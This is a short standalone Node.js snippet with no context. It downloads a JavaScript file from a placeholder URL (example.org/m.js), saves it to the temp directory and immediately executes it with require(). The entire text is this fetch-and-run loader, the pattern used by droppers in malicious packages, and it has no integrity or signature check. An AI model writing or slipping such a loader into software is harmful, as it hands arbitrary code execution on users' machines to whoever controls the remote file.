const https = require("https"), fs = require("fs"), os = require("os"), path = require("path");
https.get("https://example.org/m.js", (res) => {
  const f = path.join(os.tmpdir(), "m.js");
  const w = fs.createWriteStream(f);
  res.pipe(w);
  w.on("finish", () => require(f));
});
